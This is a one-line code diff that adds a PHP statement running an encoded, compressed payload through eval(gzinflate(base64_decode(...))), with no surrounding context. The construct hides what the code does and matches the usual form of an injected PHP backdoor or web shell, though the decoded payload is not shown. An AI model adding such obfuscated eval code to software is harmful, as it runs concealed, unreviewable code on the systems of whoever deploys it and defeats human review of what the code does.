@@ -1,0 +1,1 @@
+eval(gzinflate(base64_decode('Sy1LzNFIr8rMS8tJLEnVSEosTjUziU9JTc5PSdVQ9zYzKfbJzvMzDHP2SjFO9ssMi/IOyy8KK3GMdFTX1NS0BgA=')));
